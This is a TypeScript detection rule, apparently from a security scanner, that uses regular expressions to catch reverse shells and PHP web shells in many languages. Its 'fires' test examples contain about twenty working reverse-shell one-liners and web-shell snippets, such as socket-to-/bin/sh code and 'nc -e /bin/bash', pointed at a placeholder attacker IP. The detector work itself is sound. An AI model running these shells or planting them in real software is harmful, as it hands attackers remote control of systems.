import { isOrdinaryForShell } from '../../checks/ordinary-command.js';
import type { Rule } from '../../rule.js';

/** What a process is fed with or runs in a reverse shell: what the socket says, or a shell. */
const RUNS_A_SHELL = /recv|makefile|dup2|fileno|shell\s*=\s*True|\/bin\/|["'](?:ba|z|da)?sh["']|cmd|powershell|pty/i;

export const rule: Rule = {
  pattern: 'reverse_shell',
  variant: 'code',
  threat: 'INJECTION',
  direction: 'inbound',
  severity: 'critical',
  confidence: 'high',
  group: 'commands',
  about: 'A few lines of a program that connect a socket to a shell, or run what a socket or request says.',
  anatomy: 'in one language each: a socket, and then a shell, a redirected descriptor or a process fed from it',
  source: 'https://www.revshells.com and https://attack.mitre.org/techniques/T1059/006/',
  match: [
    // Python: socket ... dup2 / pty.spawn / subprocess with a shell
    {
      re: /socket[^]*?(?:\.connect(?:_ex)?\(|\.bind\()[^]*?(?:dup2\(|pty\.spawn|(?:subprocess|sp)\.(?:call|Popen|run|getoutput|check_output)\()/,
      window: 700,
      accept: ({ text, after }) => !/(?:subprocess|sp)\.\w+\($/.test(text) || RUNS_A_SHELL.test(`${text}${after}`),
    },
    // Perl
    { re: /use\s+(?:IO::)?Socket[^]*?exec\s*\(?\s*\{?["'`]?\s*(?:\/bin\/|cmd)/, window: 900 },
    // The same where much stands between: what it reads comes from a handle, and then it becomes a shell
    {
      re: /open\s*\(?\s*STDIN\s*,\s*["'][+<>]{1,2}&[^]*?exec\s*\(?\s*\{?\s*["'`]\s*(?:\/(?:usr\/)?bin\/|\w{0,4}sh["'`\s]|cmd)/,
      window: 400,
    },
    // PHP: a socket and a shell; a request parameter that is run
    {
      re: /(?:p?fsockopen|stream_socket_client|socket_create)\s*\([^]*?(?:shell_exec|proc_open|passthru|popen|system|exec)\s*\(/,
      window: 2000,
    },
    { re: /(?:p?fsockopen|stream_socket_client)\s*\([^\n]*(?:\)\s*;\s*`|[,(]\s*`\s?\$)/ },
    {
      re: /(?:system|exec|shell_exec|passthru|popen|proc_open|assert|eval)\s*\(\s*(?:base64_decode\s*\(\s*)?\$_(?:GET|POST|REQUEST|COOKIE|SERVER)\s*\[/,
    },
    {
      re: /=\s*\(?\s*\$_(?:GET|POST|REQUEST|COOKIE)\s*\[[^\]\n]+\]\s*\)?\s*(?:\?\?[^;\n]*)?;\s*(?:system|exec|shell_exec|passthru)\s*\(\s*\$\w/,
    },
    { re: /`\s*\{?\$_(?:GET|POST|REQUEST)\s*\[/ },
    // Ruby
    { re: /TCPSocket\.(?:new|open)\s*\(?[^]*?(?:IO\.popen|exec|\/bin\/(?:ba)?sh|spawn)/, window: 400 },
    { re: /spawn\s*\(?\s*["'][^\n]*:out[^\n]*=>\s*TCPSocket\.(?:new|open)/, window: 200 },
    { re: /TCPServer\.(?:new|open)[^]*?\.accept[^]*?(?:IO\.popen|[\s;]exec[ (]|`#\{)/, window: 300 },
    // Lua
    { re: /require\s*\(?["']socket["'][^]*?(?:os\.execute|io\.popen)\s*\(/, window: 500 },
    // Node.js
    {
      re: /(?<!\w)net["'`]?\)?\.(?:Socket|connect|createConnection|createServer)[^]*?\.pipe\(\s*\w+\.stdin/,
      window: 700,
    },
    {
      re: /child_process["'`]?\)[^]*?(?:exec|spawn)\w*\(\s*["'`](?:nc|ncat|\/bin\/(?:ba)?sh|cmd(?:\.exe)?)[ "'`]/,
      window: 400,
    },
    // Java
    {
      re: /getRuntime\(\)\s*\.\s*exec\s*\([^\n]*(?:\/bin\/(?:ba)?sh|bash\s+-c|cmd(?:\.exe)?\s)/,
      // `{"/bin/sh", "-c", "ls " + dir}`: how programs list a folder.
      accept: ({ after }) => !isOrdinaryForShell(after.replace(/^["']\s*,\s*["']-c["']\s*,\s*/, '')),
    },
    { re: /new\s+(?:java\.net\.)?Socket\s*\([^]*?(?:ProcessBuilder|\.exec\s*\()/, window: 1200 },
    // ... and Groovy, where a command or a list of its words is run by its own method
    {
      re: /(?:ProcessBuilder|\.exec\s*\(|["'\]]\.execute\(\))[^]*?(?:new\s+(?:java\.net\.)?|=\s?)Socket\s*\(/,
      window: 2000,
    },
    { re: /ServerSocket\s*\([^]*?\.accept\(\)[^]*?(?:ProcessBuilder|exec)\s*\(\s*["'{]{0,2}\/bin\//, window: 700 },
    // Go, C, C#, Crystal, Dart, V
    {
      re: /net\.Dial\s*\([^]*?exec\.Command\s*\(\s*["'](?:\/(?:usr\/)?bin\/|cmd|powershell|\w{0,4}sh["'])/,
      window: 500,
    },
    { re: /(?:connect|ConnectToHost|bind)\s*\([^]*?dup2\s*\([^]*?exec(?:[lv]p?e?)?\s*\(/, window: 900 },
    { re: /os\.system\s*\(\s*["'](?:nc|ncat|bash|sh|\/bin\/)[^\n]*(?:-e\s|\/dev\/tcp)/ },
    { re: /TCPClient\s*\([^]*?(?:GetStream|StreamWriter)[^]*?(?:iex|Invoke-Expression|Process)/i, window: 1200 },
    { re: /TCPClient\s*\(["'\d][^]*?GetStream\s*\(\s*\)/i, window: 300 },
    {
      re: /(?:Socket\.(?:tcp|connect)|Deno\.connect)\s*\([^]*?(?:Process\.(?:new|start|run)|Deno\.Command)\s*\(/,
      window: 700,
    },
  ],
  examples: {
    fires: [
      'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0);\'',
      'php -r \'$sock=fsockopen("203.0.113.7",4444);exec("/bin/bash <&3 >&3 2>&3");\'',
      'ruby -rsocket -e\'c=TCPSocket.new("203.0.113.7","4444");IO.popen($_)\'',
      "require('child_process').exec('nc -e /bin/bash 203.0.113.7 4444')",
      'open(STDIN, ">&SOCK");\nopen(STDOUT,">&SOCK");\nexec({"/bin/sh"} ("httpd", "-i"));',
      "require 'socket'; spawn('sh',[:in,:out,:err]=>TCPSocket.new('203.0.113.7',4444))",
      'c,_:=net.Dial("tcp","203.0.113.7:4444");cmd:=exec.Command("zsh");cmd.Stdin=c',
      "lua -e \"require('socket');t=socket.tcp();os.execute('/bin/bash -i');\"",
      '<?php system($_GET["cmd"]); ?>',
      "<?php $c = $_POST['c'] ?? ''; passthru($c); ?>",
      "<?php echo `{$_POST['c']}`; ?>",
      "<?php $s=fsockopen('203.0.113.7',4444);while($l=fgets($s)){fwrite($s,`$l`);} ?>",
      's = TCPServer.new 4444\nc = s.accept\nwhile l = c.gets\n  c.puts `#{l}`\nend',
      'ServerSocket ss = new ServerSocket(4444); Socket s = ss.accept(); Process p = new ProcessBuilder("/bin/sh").start();',
      "s = socket.socket()\ns.bind(('', 4444))\nc, a = s.accept()\nc.send(subprocess.getoutput(c.recv(99)).encode())",
      'require("net").connect(4444,"203.0.113.7",function(){this.pipe(s.stdin);s.stdout.pipe(this)})',
      'val p = ProcessBuilder("/bin/sh").start()\nval s = Socket("203.0.113.7", 4444)',
      'Process p=["/bin/bash"].execute();Socket s=new Socket("203.0.113.7",4444);',
      'connect(s, &a, sizeof(a)); dup2(s, 0); dup2(s, 1); execv("/bin/sh", argv);',
      'const c=await Deno.connect({port:4444});const p=new Deno.Command("sh",{stdin:"piped"}).spawn()',
    ],
    silent: [
      'Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", "ls " + dir});',
      'import socket\ns = socket.socket()\ns.connect(("example.com", 80))\nprint(s.recv(100))\n',
      "const { exec } = require('child_process'); exec('git status')",
      'Socket socket = new Socket("example.com", 80);',
      'pool.execute(task); Socket socket = new Socket("example.com", 80);',
      'net.Dial("tcp", "golang.org:80")',
      "server = TCPServer.new('127.0.0.1', 0)\nport = server.addr[1]\nspawn('ruby', 'app.rb', port.to_s)",
      'int port; try (ServerSocket s = new ServerSocket(0)) { port = s.getLocalPort(); } new ProcessBuilder("java", "-jar", "app.jar").start();',
      "s = socket.socket()\ns.bind(('', 0))\nport = s.getsockname()[1]\nsubprocess.check_output(['git', 'status'])",
      'const client = net.connect(8124); process.stdin.pipe(client);',
      'open(STDIN, "<&", $saved);\nexec($^X, $0, @ARGV);',
      'c, _ := net.Dial("tcp", "192.0.2.1:80")\ncmd := exec.Command("git", "push")',
    ],
  },
};
